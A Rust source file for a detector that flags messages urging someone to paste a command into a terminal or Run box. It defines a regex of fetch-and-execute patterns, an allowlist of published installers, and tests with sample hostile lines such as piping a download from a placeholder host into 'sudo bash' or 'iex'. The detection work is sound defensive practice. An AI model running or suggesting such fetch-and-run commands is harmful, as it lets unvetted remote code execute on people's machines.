//! The other side asks to paste a line into a terminal or the Run box, or writes such a line.

use std::sync::LazyLock;

use regex::Regex;

use crate::case::{Case, Context, Origin};
use crate::finding::{Findings, Strength};
use crate::sign::{Family, Meta, Part, Status, Who};
use crate::signs::phrase_sign;
use crate::text::mention;

/// What the sign is.
pub const META: Meta = Meta {
    id: "msg-paste-command",
    family: Family::Payload,
    strength: Strength::Strong,
    may_decide: true,
    status: Status::Tested,
    who: Who::Both,
    reads: &[Part::Messages],
    sources: &["SEK25", "SENT25"],
};

/// Lines that fetch something and start it at once. Read without regard to case.
static SHAPES: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)(?:\b(?:curl|wget)\b[^\n|;&]{0,300}\|\s*(?:sudo\s+)?(?:\S*/)?(?:ba|z|da|k)?sh\b",
        r#"|\b(?:ba|z)?sh\s+(?:-c\s+)?["']?(?:\$\(|<\()\s*(?:curl|wget)\b[^\n)]{0,300}\)"#,
        r"|\b(?:curl|wget)\b[^\n|]{0,300}&&\s*(?:sudo\s+)?(?:(?:ba|z)?sh|chmod|python3?|node)\b",
        r"|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,120}?\s-e(?:nc|ncodedcommand|c)?\s+[a-z0-9+/=]{12,}",
        r"|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n|]{0,300}\|\s*(?:iex|invoke-expression)\b",
        r"|\b(?:iex|invoke-expression)\b[\s(&]{1,4}[^\n]{0,60}?\b(?:iwr|irm|net\.webclient|invoke-webrequest|invoke-restmethod)\b[^\n]{0,200}",
        r"|\bmshta(?:\.exe)?\s+\S{0,12}(?:h[tx]{2}ps?|javascript|vbscript)\S*",
        r"|\bmsiexec(?:\.exe)?\s[^\n]{0,40}/i\s+h[tx]{2}ps?\S+",
        r"|\bcertutil(?:\.exe)?\s[^\n]{0,40}-urlcache\b[^\n]{0,120}",
        r"|\bbase64\s+(?:-d|-D|--decode)\b[^\n]{0,80}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b)"
    ))
    .ok()
});

/// Installers that their makers publish in this very form.
const PUBLISHED: &[&str] = &["sh.rustup.rs", "githubusercontent.com/homebrew", "get.docker.com", "bun.sh", "astral.sh", "deno.land", "get.sdkman.io", "nvm-sh/nvm", "ohmyzsh", "get.pnpm.io", "nixos.org", "chocolatey.org", "get.scoop.sh", "ollama.com"];

/// Quotes the asked-for steps and the lines.
pub fn look(case: &Case, context: &Context, findings: &mut Findings) {
    let mut lines = Vec::new();
    for scanned in context.scanned(case).iter().filter(|s| matches!(s.origin, Origin::Message(_))) {
        let text = scanned.text.as_str();
        for found in may_hold_line(text).then(|| SHAPES.as_ref()).flatten().into_iter().flat_map(|shapes| shapes.find_iter(text)) {
            let line = found.as_str().to_ascii_lowercase();
            let strength = if PUBLISHED.iter().any(|host| line.contains(host)) { Strength::Weak } else { Strength::Strong };
            lines.push((scanned.text.evidence(found.range()), strength));
        }
    }
    phrase_sign::weigh(&META, case, context, findings, lines);
}

/// Each of the lines joins two programs or names one of these.
fn may_hold_line(text: &str) -> bool {
    text.contains(['|', '&', '(']) && mention::holds(text, &["curl", "wget", "iwr", "irm", "iex", "invoke-", "base64"])
        || mention::holds(text, &["powershell", "pwsh", "iex", "invoke-expression", "mshta", "msiexec", "certutil"])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn knows_lines_that_fetch_and_start() {
        let shapes = SHAPES.as_ref().unwrap();
        for line in [
            "curl -fsSL https://fix.example/m | sudo bash",
            "wget -qO- http://a.example/x.sh | sh",
            "bash -c \"$(curl -s https://a.example/i)\"",
            "powershell -w hidden -enc SQBFAFgAIAAoAE4A",
            "irm https://a.example/p.ps1 | iex",
            "mshta https://a.example/v.hta",
            "echo aGVsbG8= | base64 -d | sh",
        ] {
            assert!(may_hold_line(line) && shapes.is_match(line), "{line}");
        }
        for line in ["curl -I https://a.example", "Use wget to fetch the file, then read it", "powershell -File build.ps1", "ls | sort"] {
            assert!(!shapes.is_match(line), "{line}");
        }
    }
}
